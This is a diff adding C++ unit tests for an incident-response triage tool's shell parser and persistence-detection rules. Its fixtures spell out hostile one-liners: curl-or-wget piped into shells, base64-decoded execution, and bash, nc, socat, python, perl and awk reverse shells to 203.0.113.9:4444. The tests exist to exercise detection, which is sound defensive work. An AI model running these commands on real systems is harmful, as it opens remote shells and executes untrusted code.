@@ -3,10 +3,12 @@
 #include <gtest/gtest.h>
 
 #include <algorithm>
+#include <map>
 
 #include <fmt/format.h>
 
 #include "analysis/rules.hpp"
+#include "irsnap/text.hpp"
 #include "irsnap/triage.hpp"
 
 namespace irsnap::triage {
@@ -614,6 +616,339 @@ TEST(TriageSpecimens, TheIndexIsBoundedAndManySpecimensOfOnePidStayCheap) {
         EXPECT_EQ(f.specimens[0].match, "path");  // a path is a stronger match than holding
         EXPECT_EQ(f.specimens[0].line, 1u);
     }
+}
+
+std::vector<std::string> names_of(const std::vector<ShellCommand>& commands) {
+    std::vector<std::string> out;
+    for (const auto& c : commands) out.push_back(c.name);
+    return out;
+}
+
+using Words = std::vector<std::string>;
+
+TEST(ShellCommands, WrappersPipesAndComments) {
+    auto c = shell_commands(
+        "FOO=1 nohup /usr/bin/curl -s 'http://x/a b' | sudo -u root bash -s -- x; "
+        "echo done # curl http://x | sh");
+    ASSERT_EQ(names_of(c), (Words{"curl", "bash", "echo"}));
+    EXPECT_EQ(c[0].words[c[0].program], "/usr/bin/curl");
+    EXPECT_EQ(c[0].words[4], "http://x/a b");  // quotes removed, one word
+    EXPECT_FALSE(c[0].piped);
+    EXPECT_TRUE(c[1].piped);
+    EXPECT_EQ(c[1].pipeline, 0u);
+    EXPECT_FALSE(c[2].piped);
+    EXPECT_EQ(c[2].pipeline, 2u);
+    EXPECT_EQ(c[2].words, (Words{"echo", "done"}));  // the comment is not read
+    // Quoted operators and '#' inside a word are text.
+    auto q = shell_commands("echo \"curl x | sh\" 'a;b' c#d");
+    ASSERT_EQ(q.size(), 1u);
+    EXPECT_EQ(q[0].words, (Words{"echo", "curl x | sh", "a;b", "c#d"}));
+    // `command -v` only looks a program up; timeout, env and xargs run one.
+    EXPECT_EQ(names_of(shell_commands("command -v curl; timeout -s 9 10 env A=1 wget x")),
+              (Words{"", "wget"}));
+    EXPECT_EQ(names_of(shell_commands("if [ -x /tmp/y ]; then /tmp/y; fi")),
+              (Words{"[", "y", "fi"}));
+    EXPECT_EQ(names_of(shell_commands("C:\\Tools\\NC.EXE -e cmd.exe h 1")), (Words{"nc"}));
+}
+
+TEST(ShellCommands, GroupsSubstitutionsRedirectionsAndStrings) {
+    // A ( ) group is one element of the pipeline around it.
+    auto g = shell_commands("(curl -fsSL http://x || wget -q -O- http://y) | sh");
+    ASSERT_EQ(names_of(g), (Words{"curl", "wget", "sh"}));
+    EXPECT_TRUE(g[2].piped);
+    EXPECT_EQ(g[2].pipeline, 0u);  // curl and wget both feed sh
+    // Substitutions name the command that holds them, quoted or not.
+    auto s = shell_commands("eval \"$(wget -qO- http://x)\"; bash <(curl http://y); V=`uname -r`");
+    ASSERT_EQ(names_of(s), (Words{"eval", "wget", "bash", "curl", "", "uname"}));
+    EXPECT_EQ(s[1].host, "eval");
+    EXPECT_EQ(s[3].host, "bash");
+    EXPECT_EQ(s[5].host, "");  // an assignment runs nothing
+    EXPECT_EQ(s[0].host, "");
+    // Redirections apart from words, descriptor numbers kept, targets after blanks.
+    auto r = shell_commands("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 2> /dev/null");
+    ASSERT_EQ(r.size(), 1u);
+    EXPECT_EQ(r[0].words, (Words{"bash", "-i"}));
+    EXPECT_EQ(r[0].redirects, (Words{">&/dev/tcp/10.0.0.1/4444", "0>&1", "2>/dev/null"}));
+    // The strings sh -c, su -c and alias run are read as commands of their own.
+    EXPECT_EQ(names_of(shell_commands(
+                  "su root -c 'curl x | sh' ; alias ls='nc -e /bin/sh h 1'; /bin/bash -lc 'id'")),
+              (Words{"su", "curl", "sh", "alias", "nc", "bash", "id"}));
+}
+
+TEST(ShellCommands, BoundedOnHostileText) {
+    std::string many;
+    for (int i = 0; i < 5000; ++i) many += "a;";
+    EXPECT_EQ(shell_commands(many).size(), k_max_shell_commands);
+    EXPECT_LE(shell_commands(std::string(100000, '(')).size(), k_max_shell_commands);
+    std::string nested;
+    for (int i = 0; i < 3000; ++i) nested += "$(";
+    EXPECT_LE(shell_commands(nested + "x").size(), k_max_shell_commands);
+    std::string strings = "sh -c 'sh -c \"sh -c \\\"sh -c \\\\\\\"sh -c x\\\\\\\"\\\"\"'";
+    EXPECT_LE(shell_commands(strings).size(), 4u);  // three strings deep, no more
+    auto open = shell_commands("echo 'unterminated | sh");
+    ASSERT_EQ(open.size(), 1u);
+    EXPECT_EQ(open[0].words, (Words{"echo", "unterminated | sh"}));
+    EXPECT_TRUE(shell_commands("").empty());
+    EXPECT_TRUE(shell_commands("   # only a comment | sh").empty());
+}
+
+/// An autoruns record of a script with these code lines, numbered from 1 (or as given).
+std::string script_record(const std::string& category, const std::string& path,
+                          const std::vector<std::string>& lines, std::vector<int> numbers = {}) {
+    if (numbers.empty()) {
+        for (size_t i = 0; i < lines.size(); ++i) numbers.push_back(static_cast<int>(i) + 1);
+    }
+    return json{{"category", category},
+                {"source_path", path},
+                {"command", path},
+                {"target_path", path},
+                {"script_lines", lines},
+                {"script_line_numbers", numbers},
+                {"mtime", "2020-01-01T00:00:00Z"}}
+        .dump();
+}
+
+std::string command_record(const std::string& category, const std::string& command, int line = 7) {
+    return json{{"category", category},    {"source_path", "/etc/crontab"},
+                {"source_line", line},     {"command", command},
+                {"script_lines", nullptr}, {"mtime", "2020-01-01T00:00:00Z"}}
+        .dump();
+}
+
+/// The findings of `id` over one autoruns record per command line, and which lines fired.
+std::vector<std::string> firing(std::string_view id, const std::vector<std::string>& commands) {
+    std::vector<std::string> lines;
+    for (const auto& c : commands) lines.push_back(command_record("cron", c));
+    Input in;
+    for (size_t i = 0; i < lines.size(); ++i) {
+        in.records["autoruns"].push_back(
+            {"artifacts/12_autoruns.jsonl", i + 1, json::parse(lines[i])});
+    }
+    std::vector<uint64_t> places;
+    for (const auto& f : of_rule(in, id)) places.push_back(f.evidence.at(0).line);
+    std::sort(places.begin(), places.end());  // findings come sorted by urgency first
+    std::vector<std::string> fired;
+    for (uint64_t line : places) fired.push_back(commands.at(line - 1));
+    return fired;
+}
+
+TEST(TriageRules, DownloadPipedIntoAShell) {
+    const std::vector<std::string> bad = {
+        "curl -fsSL http://203.0.113.9/i.sh | sh",
+        "(curl -fsSL http://x/i.sh || wget -q -O- http://x/i.sh) | bash",
+        "/bin/sh -c 'wget -O- http://x | sh'",
+        "bash -c \"$(curl -fsSL http://x)\"",
+        ". <(wget -qO- http://x)",
+        "eval \"$(curl -s http://x)\"",
+        "cd /root\ncurl http://x | python3 -",
+        "wget -q -O - http://x | sudo bash -s -- --quiet",
+    };
+    const std::vector<std::string> good = {
+        "apt-get update",
+        "curl -s http://x -o /var/lib/x.json",
+        "curl -s http://x | grep -q ok && echo up",
+        "curl -s http://x | python3 -m json.tool",
+        "echo \"curl http://x | sh\"",
+        "VERSION=$(curl -s http://x/version)",
+        "wget -qO- http://x | tar xz -C /opt",
+        "curl -s http://x | bash /opt/install.sh",
+        "/usr/bin/backup # curl http://x | sh",
+    };
+    std::vector<std::string> all = bad;
+    all.insert(all.end(), good.begin(), good.end());
+    EXPECT_EQ(firing("IRS-PER-005", all), bad);
+
+    auto in = input_of({{"autoruns",
+                         {script_record("rc_local", "/etc/rc.local",
+                                        {"/usr/bin/backdoor &", "curl -fsSL http://x/a | sh",
+                                         "wget -qO- http://x/b | bash"},
+                                        {3, 4, 9})}}});
+    auto f = of_rule(in, "IRS-PER-005");
+    ASSERT_EQ(f.size(), 1u);  // one finding per record, naming the first line
+    EXPECT_EQ(f[0].urgency, Urgency::high);
+    EXPECT_EQ(f[0].confidence, Confidence::high);
+    EXPECT_EQ(f[0].attack, "T1105");
+    EXPECT_EQ(f[0].why,
+              "rc_local /etc/rc.local:4 pipes curl's download into sh: 'curl -fsSL http://x/a | "
+              "sh' (and 1 more line like it)");
+    EXPECT_EQ(f[0].evidence[0].fields["script_line"], "curl -fsSL http://x/a | sh");
+    EXPECT_EQ(f[0].evidence[0].fields["script_line_number"], 4);
+    EXPECT_EQ(f[0].evidence[0].fields["source_path"], "/etc/rc.local");
+    EXPECT_FALSE(f[0].evidence[0].fields.contains("script_lines"));  // never the whole script
+}
+
+TEST(TriageRules, ScriptRunsFromATemporaryPlace) {
+    const std::vector<std::string> bad = {
+        "/dev/shm/.x/run --daily",
+        "nohup /tmp/.x/miner >/dev/null 2>&1 &",
+        "sh /var/tmp/a.sh",
+        ". /tmp/env",
+        "chmod +x /tmp/x && /usr/bin/true",
+        "chmod 0755 /dev/shm/y",
+        "cd /tmp; ./x",
+        "export LD_PRELOAD=/dev/shm/libx.so",
+        "if [ -x /tmp/y ]; then /tmp/y; fi",
+    };
+    // What /etc/init.d/x11-common and clean-up jobs do with /tmp: no program runs from it.
+    const std::vector<std::string> good = {
+        "DIR=\"/tmp/$1\"",
+        "fn=\"$(mktemp /tmp/testwriteable.XXXXXXXXXX)\" || return 1",
+        "rm -rf /tmp/.X11-unix/*",
+        "if [ -d \"/tmp/$ICE_DIR\" ] && [ -d \"/tmp/$SOCKET_DIR\" ]; then",
+        "find /tmp /var/tmp -mtime +7 -delete",
+        "chmod 1777 /tmp/.ICE-unix",
+        "chmod 01777 /tmp/.X11-unix",
+        "chmod -R 755 /tmp/build",
+        "chmod 644 /tmp/x",
+        "cd /tmp && ls",
+        "sh -c 'echo /tmp/x'",
+        "apt-get update",
+    };
+    std::vector<std::string> lines = bad;
+    lines.insert(lines.end(), good.begin(), good.end());
+    std::vector<std::string> records;
+    for (const auto& l : lines)
+        records.push_back(script_record("cron_script", "/etc/cron.daily/x", {l}));
+    Input in;
+    for (size_t i = 0; i < records.size(); ++i) {
+        in.records["autoruns"].push_back(
+            {"artifacts/12_autoruns.jsonl", i + 1, json::parse(records[i])});
+    }
+    std::vector<uint64_t> places;
+    for (const auto& f : of_rule(in, "IRS-PER-006")) {
+        places.push_back(f.evidence.at(0).line);
+        EXPECT_EQ(f.attack, "T1053.003");  // the technique of the autorun's category
+        EXPECT_EQ(f.urgency, Urgency::high);
+    }
+    std::sort(places.begin(), places.end());
+    std::vector<std::string> fired;
+    for (uint64_t line : places) fired.push_back(lines.at(line - 1));
+    EXPECT_EQ(fired, bad);
+    // Entries' own commands are IRS-PER-003's, not this rule's.
+    EXPECT_TRUE(firing("IRS-PER-006", {"/tmp/x", "sh /tmp/y"}).empty());
+    EXPECT_EQ(firing("IRS-PER-003", {"/tmp/x"}).size(), 1u);
+}
+
+TEST(TriageRules, DecodingIsMediumAndHighWhenTheResultRuns) {
+    const std::vector<std::string> commands = {
+        "echo aGk= | base64 -d > /etc/x",                                   // medium
+        "echo L3Vz | base64 --decode | bash",                               // high
+        "eval \"$(echo ZWNobw== | base64 -di)\"",                           // high
+        "xxd -r -p /var/lib/x.hex > /usr/local/bin/x",                      // medium
+        "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQ='))\"",  // high
+        "openssl enc -d -base64 -in /var/x -out /var/y",                    // medium
+        "base64 /etc/hostname",
+        "xxd /bin/ls | head",
+        "base64 --wrap=0 /etc/hostname",
+        "echo base64 -d",
+        "apt-get update",
+    };
+    auto fired = firing("IRS-PER-007", commands);
+    EXPECT_EQ(fired, std::vector<std::string>(commands.begin(), commands.begin() + 6));
+    std::vector<std::string> lines;
+    for (const auto& c : commands) lines.push_back(command_record("cron", c));
+    Input in;
+    for (size_t i = 0; i < lines.size(); ++i) {
+        in.records["autoruns"].push_back({"a.jsonl", i + 1, json::parse(lines[i])});
+    }
+    std::map<uint64_t, Finding> by_line;
+    for (auto& f : of_rule(in, "IRS-PER-007")) by_line.emplace(f.evidence[0].line, f);
+    ASSERT_EQ(by_line.size(), 6u);
+    for (uint64_t line : {1u, 4u, 6u}) {
+        EXPECT_EQ(by_line.at(line).urgency, Urgency::medium) << line;
+        EXPECT_EQ(by_line.at(line).confidence, Confidence::medium) << line;
+    }
+    for (uint64_t line : {2u, 3u, 5u}) {
+        EXPECT_EQ(by_line.at(line).urgency, Urgency::high) << line;
+        EXPECT_EQ(by_line.at(line).confidence, Confidence::high) << line;
+    }
+    EXPECT_EQ(by_line.at(2).attack, "T1140");
+    EXPECT_EQ(by_line.at(2).why,
+              "cron /etc/crontab:7 decodes with base64 and pipes the result into bash: 'echo "
+              "L3Vz | base64 --decode | bash'");
+}
+
+TEST(TriageRules, ReverseShellIdioms) {
+    const std::vector<std::string> bad = {
+        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+        "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &",
+        "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
+        "nc -e /bin/sh 203.0.113.9 4444",
+        "ncat 203.0.113.9 4444 --sh-exec /bin/bash",
+        "busybox nc -lp 4444 -e /bin/sh",
+        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:4444",
+        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
+        "python3 -c 'import socket,subprocess,os;s=socket.socket();"
+        "s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);import pty;pty.spawn(\"sh\")'",
+        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+        "exec(\"/bin/sh -i\");'",
+        "telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445",
+        "sh -i 2>&1 | nc 203.0.113.9 4444",
+        "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/4444\"; while (1) {s |& getline c}}'",
+    };
+    const std::vector<std::string> good = {
+        "nc -z 10.0.0.1 22 && echo up",
+        "echo ok > /dev/tcp/10.0.0.1/22",
+        "timeout 1 bash -c '</dev/tcp/10.0.0.1/22'",
+        "python3 -c 'import socket; print(socket.gethostname())'",
+        "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80",
+        "mkfifo /run/x.fifo",
+        "tar c /etc | nc backup 9000",
+        "echo 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'",
+        "/usr/bin/backup # bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
+        "apt-get update",
+    };
+    std::vector<std::string> all = bad;
+    all.insert(all.end(), good.begin(), good.end());
+    EXPECT_EQ(firing("IRS-PER-008", all), bad);
+    auto in = input_of({{"autoruns",
+                         {script_record("sysv_init", "/etc/init.d/evil",
+                                        {"/usr/bin/x", "nc -e /bin/sh 203.0.113.9 4444"})}}});
+    auto f = of_rule(in, "IRS-PER-008");
+    ASSERT_EQ(f.size(), 1u);
+    EXPECT_EQ(f[0].urgency, Urgency::critical);
+    EXPECT_EQ(f[0].attack, "T1059.004");
+    EXPECT_EQ(f[0].why,
+              "sysv_init /etc/init.d/evil:2 runs a program for the network with nc -e: 'nc -e "
+              "/bin/sh 203.0.113.9 4444'");
+}
+
+TEST(TriageRules, ShellRulesReadOnlyCodeAndKeepHostTextForTheEscapingPrinter) {
+    // Records that are not scripts, odd types and comments: nothing, and no throw.
+    auto in = input_of(
+        {{"autoruns",
+          {R"({"category":"cron","source_path":"/etc/crontab","command":"apt-get update","script_lines":null})",
+           R"({"category":"rc_local","source_path":"/etc/rc.local","command":"/etc/rc.local","script_lines":["# curl http://x | sh","apt-get update"],"script_line_numbers":[1,2]})",
+           R"({"category":"rc_local","source_path":"/etc/rc.local","script_lines":"curl x | sh"})",
+           R"({"category":"rc_local","source_path":"/etc/rc.local","script_lines":[7,null,{"a":1}],"script_line_numbers":"x"})",
+           R"({"category":"rc_local","source_path":"/etc/rc.local","script_lines":["curl x | sh"],"script_line_numbers":["one"]})",
+           R"({"category":"run_key","source_path":"HKLM\\Run","command":"C:\\Tools\\nc.exe -e cmd.exe 203.0.113.9 4444"})"}}});
+    auto download = of_rule(in, "IRS-PER-005");
+    ASSERT_EQ(download.size(), 1u);
+    EXPECT_EQ(download[0].evidence[0].line, 5u);
+    EXPECT_EQ(download[0].why,
+              "rc_local /etc/rc.local pipes curl's download into sh: 'curl x | sh'");
+    auto reverse = of_rule(in, "IRS-PER-008");
+    ASSERT_EQ(reverse.size(), 1u);  // a Windows command too
+    EXPECT_EQ(reverse[0].evidence[0].line, 6u);
+    // A terminal escape in a planted line reaches the finding as text; printing escapes it.
+    auto planted = input_of({{"autoruns",
+                              {script_record("shell_startup", "/home/a/.bashrc",
+                                             {"curl http://x/\x1b[2J\x1b[1A | sh"})}}});
+    auto f = of_rule(planted, "IRS-PER-005");
+    ASSERT_EQ(f.size(), 1u);
+    EXPECT_NE(f[0].why.find('\x1b'), std::string::npos);
+    EXPECT_EQ(terminal_safe(f[0].why).find('\x1b'), std::string::npos);
+    // A huge line costs its first bytes only, and the why stays within its cap.
+    auto huge =
+        input_of({{"autoruns",
+                   {script_record("rc_local", "/etc/rc.local",
+                                  {"curl http://x | sh -s " + std::string(1 << 20, 'a')})}}});
+    auto h = of_rule(huge, "IRS-PER-005");
+    ASSERT_EQ(h.size(), 1u);
+    EXPECT_LE(h[0].why.size(), k_max_why_bytes);
+    EXPECT_LE(h[0].evidence[0].fields["script_line"].get<std::string>().size(),
+              k_max_evidence_value_bytes);
 }
 
 TEST(TriageRules, HelpersParseTimesAndPlaces) {
